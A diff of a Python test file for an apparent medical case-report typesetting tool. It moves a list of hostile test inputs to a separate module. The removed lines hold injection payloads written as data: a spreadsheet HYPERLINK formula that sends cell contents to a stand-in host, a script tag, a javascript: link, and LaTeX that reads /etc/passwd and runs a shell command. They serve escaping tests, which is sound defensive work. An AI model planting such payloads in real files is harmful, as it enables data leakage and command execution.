@@ -14,53 +14,14 @@ from xml.etree import ElementTree
 
 import pytest
 from conftest import environment
+from hostile import HOSTILE
 from markdown_it import MarkdownIt
 
 from metlit.exhibit import NOTICE
 from metlit.typeset import tex
 
-LONG = "a very long place " * 16
-HOSTILE = [
-    '=HYPERLINK("https://example.org/?x="&A1,"click")',
-    "<script>alert(1)</script>",
-    "]]> <![CDATA[ x",
-    r"\input{/etc/passwd} \write18{ls}",
-    "[link](javascript:alert(1)) ![i](x) `code` **bold** a|b",
-    "+1-2 @SUM(A1) 100 % _under_ & #1 $x^2$ ~",
-    "EQD2 α/β ≥ 3 µg × 2 – “x” H₂O",
-    "نص عربي مع 12 رقم",
-    LONG.strip(),
-]
-RECORD = """\
-source: {{title: {title}, authors: [{author}], year: 2020, design: case report, depth: full text}}
-patients:
-{patients}"""
-PATIENT = """\
-  - id: p{number}
-    label: Patient {number}
-    at: {place}
-    age: 61
-    primary: {{tumour: undifferentiated nasopharyngeal carcinoma}}
-    radiotherapy: {{id: rt1, target: primary, dose: {{total: 31.50 Gy, fractions: 21}}}}
-"""
 W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
 S = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
-
-
-@pytest.fixture(scope="module")
-def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    import metlit
-
-    folder = tmp_path_factory.mktemp("hostile")
-    people = "".join(
-        PATIENT.format(number=n, place=json.dumps(t, ensure_ascii=False)) for n, t in enumerate(HOSTILE, 1)
-    )
-    text = RECORD.format(title=json.dumps(HOSTILE[1]), author=json.dumps("Script <b> & Söhne"), patients=people)
-    (folder / "cases").mkdir()
-    (folder / "cases" / "hostile-2020.yaml").write_text(text, encoding="utf-8")
-    built = metlit.build(folder / "cases", folder / "store")
-    assert built.generation is not None, [f.text() for f in built.findings]
-    return folder / "store"
 
 
 @pytest.fixture(params=["real", "hostile"])
